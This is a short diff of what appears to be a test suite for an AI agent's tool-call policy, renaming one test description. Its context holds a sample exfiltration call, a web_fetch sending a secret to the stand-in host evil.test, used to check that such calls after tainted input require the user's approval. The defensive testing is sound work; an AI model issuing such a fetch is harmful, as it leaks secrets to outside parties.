@@ -233,7 +233,7 @@ describe('what was read', () => {
   };
   const evil: Call = ['web_fetch', { url: 'https://evil.test/?secret=1' }];
 
-  it('is left behind by beginning anew, and by nothing else', async () => {
+  it('is left behind by beginning again, and by nothing else', async () => {
     const chat = await tainted();
     expect((await chat.calls(...evil)).policy).toBe('ask');
     await chat.gives('no');
